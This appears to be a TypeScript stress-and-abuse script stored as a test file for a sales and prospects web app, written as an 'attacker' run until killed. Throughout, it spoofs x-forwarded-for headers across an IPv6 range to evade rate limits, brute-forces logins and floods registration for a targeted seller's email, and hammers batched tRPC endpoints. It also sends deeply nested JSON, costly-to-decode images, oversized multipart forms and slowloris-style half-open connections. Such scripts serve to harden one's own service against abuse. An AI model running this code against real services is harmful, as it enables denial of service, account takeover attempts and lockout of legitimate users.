import { connect, type Socket } from 'node:net';
import sharp from 'sharp';
import { saleInput } from '../cli/demo/saleInput.ts';

// A program: whoever opens accounts to take what is everybody's, from one /48 behind the proxy, until it is killed.
// `node --import tsx server/testing/attacker.ts ADDRESS SLUG EMAIL DNI`: of the seller it is after.

const [address = '', slug = '', email = '', dni = ''] = process.argv.slice(2);
let host = 0;
const nextAddress = () => `2001:db8:7:${(++host % 60_000).toString(16)}::1`;

async function send(method: string, path: string, body?: object, token?: string) {
  const isForm = body instanceof FormData;
  const headers = {
    'x-forwarded-for': nextAddress(),
    ...(body && !isForm && { 'content-type': 'application/json' }),
    ...(token && { authorization: `Bearer ${token}` }),
  };
  const response = await fetch(address + path, {
    method,
    headers,
    ...(body && { body: isForm ? body : JSON.stringify(body) }),
  });
  const text = await response.text();
  return { status: response.status, text };
}

const batch = (procedure: string, token: string, input: (index: number) => object) =>
  send(
    'POST',
    `/trpc/${Array(20).fill(procedure).join()}?batch=1`,
    Object.fromEntries(Array.from({ length: 20 }, (_, index) => [index, input(index)])),
    token,
  );

async function openAccount(number: number): Promise<string> {
  const account = {
    name: `Mala ${number}`,
    email: `mala${number}@example.com`,
    phone: '11 5555-0000',
    location: 'Salta',
  };
  const { text } = await send('POST', '/api/auth/register', { ...account, password: 'clave-segura-981' });
  return (JSON.parse(text) as { token: string }).token;
}

const forever = async (work: (turn: number) => Promise<unknown>, atOnce = 1) =>
  Promise.all(
    Array.from({ length: atOnce }, async () => {
      // Errors are cut connections.
      for (let turn = 0; ; turn += 1) await work(turn).catch(() => undefined);
    }),
  );

const saleOf = (customer: object = {}) => {
  const sale = saleInput();
  return { ...sale, customerInfo: { ...sale.customerInfo, ...customer } };
};
const idIn = (text: string, of: string) => (JSON.parse(text) as Record<string, { _id: string }>)[of]!._id;

const tokens: string[] = [];
for (let number = 0; number < 6; number += 1) tokens.push(await openAccount(number));
const [one, two] = tokens as [string, string];
const sale = idIn((await send('POST', '/api/sales', saleOf({ dni: '28000001' }), one)).text, 'sale');
const person = { name: 'Nadie', phone: '11 4444-5501' };
const prospect = idIn((await send('POST', '/api/prospects', person, one)).text, 'prospect');
// A rival's number in an older sale, and back.
await send('PUT', `/api/sales/${sale}`, { customerInfo: saleOf({ dni }).customerInfo }, one);
await send('PUT', `/api/sales/${sale}`, { customerInfo: saleOf({ dni: '28000001' }).customerInfo }, one);

const form = (fields: number, photo?: Uint8Array<ArrayBuffer>) => {
  const body = new FormData();
  for (let field = 0; field < fields; field += 1) body.append(`field${field}`, 'x'.repeat(200_000));
  if (photo) body.append('photo', new Blob([photo]), 'dni.png');
  return body;
};
/** As many megapixels as are taken of a kind that is dear to read. */
const photo = (await sharp({ create: { width: 4000, height: 3000, channels: 4, background: 'teal' } })
  .toColourspace('rgb16')
  .png({ progressive: true })
  .toBuffer()) as Uint8Array<ArrayBuffer>;
const deep = `{"0":${'['.repeat(20_000)}${']'.repeat(20_000)}}`;
process.stdout.write('ready\n');

await Promise.all([
  forever((turn) =>
    batch('sales.edit', one, (index) => ({ id: sale, description: `${turn} ${index} ${'ñ'.repeat(900)}` })),
  ),
  forever((turn) =>
    batch('prospects.edit', two, (index) => ({ id: prospect, ...person, notes: `${turn} ${index}` })),
  ),
  forever(() => batch('sales.events', one, (index) => ({ id: sale, before: String(1000 - index) })), 10),
  forever(
    () => batch('prospects.events', one, (index) => ({ id: prospect, before: String(1000 - index) })),
    5,
  ),
  forever((turn) => batch('search.find', two, (index) => ({ q: `ana ${turn % 9} ${index}` })), 20),
  forever(() =>
    batch('sales.register', tokens[2]!, (index) =>
      saleOf({ name: `Falsa ${index}`, dni: `3100000${index % 10}` }),
    ),
  ),
  forever(
    () => send('POST', `/api/pages/${slug}/prospects`, { ...person, consent: true, website: 'http://a' }),
    4,
  ),
  forever(
    () =>
      send('POST', '/api/auth/register', {
        name: 'Mala',
        email,
        phone: '1',
        location: 'x',
        password: 'clave-segura-981',
      }),
    35,
  ),
  forever((turn) => send('POST', '/api/auth/login', { email, password: `otra-clave-${turn}` }), 5),
  forever(
    () =>
      fetch(`${address}/trpc/plans.list?batch=1`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: deep,
      }),
    4,
  ),
  ...tokens
    .slice(3)
    .flatMap((token) => [
      forever(() => send('POST', '/api/uploads/dni', form(0, photo), token), 5),
      forever(() => send('POST', '/api/uploads/dni', form(90), token), 2),
    ]),
  forever(
    () =>
      new Promise((resolve) => {
        const { hostname, port } = new URL(address);
        connect(Number(port), hostname, function begin(this: Socket) {
          this.write(
            'POST /api/health HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: 99999\r\n\r\n-',
          );
        })
          .on('error', resolve)
          .on('close', resolve)
          .resume();
      }),
    50,
  ),
]);
